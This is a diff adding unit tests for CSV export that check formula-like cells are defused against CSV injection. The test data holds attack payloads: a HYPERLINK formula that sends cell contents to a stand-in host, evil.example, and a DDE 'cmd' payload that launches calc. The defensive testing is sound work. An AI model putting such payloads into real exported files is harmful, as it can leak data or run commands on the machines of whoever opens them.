@@ -87,4 +87,36 @@ describe('CSV export', () => {
     expect(back.columns).toEqual(columns);
     expect(back.rows.map((r) => r.values)).toEqual(rows);
   });
+
+  // CSV injection (OWASP): a spreadsheet runs a cell that starts with =, +, -, @, a tab or a CR as a formula.
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
+    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['-3', "'-3"],
+    ['@SUM(1,1)', `"'@SUM(1,1)"`],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['plain text', 'plain text'],
+    ['a=b', 'a=b'],
+    ["'already quoted", "'already quoted"]
+  ])('defuses the text cell %j on export', (text, written) => {
+    const csv = toCsv([{ name: 'note', type: 'text' }], [{ note: text }]);
+    expect(csv).toBe(`note\r\n${written}`);
+  });
+
+  it('keeps negative numbers in number columns as numbers, and defuses a formula-like header', () => {
+    const cols: Column[] = [
+      { name: '=cmd', type: 'text' },
+      { name: 'delta', type: 'number' }
+    ];
+    const csv = toCsv(cols, [
+      { '=cmd': '-5', delta: -3 },
+      { '=cmd': 'ok', delta: -0.25 }
+    ]);
+    expect(csv).toBe("'=cmd,delta\r\n'-5,-3\r\nok,-0.25");
+    const back = parseCsv(csv);
+    expect(back.columns[1]).toEqual({ name: 'delta', type: 'number' });
+    expect(back.rows.map((r) => r.values.delta)).toEqual([-3, -0.25]);
+  });
 });
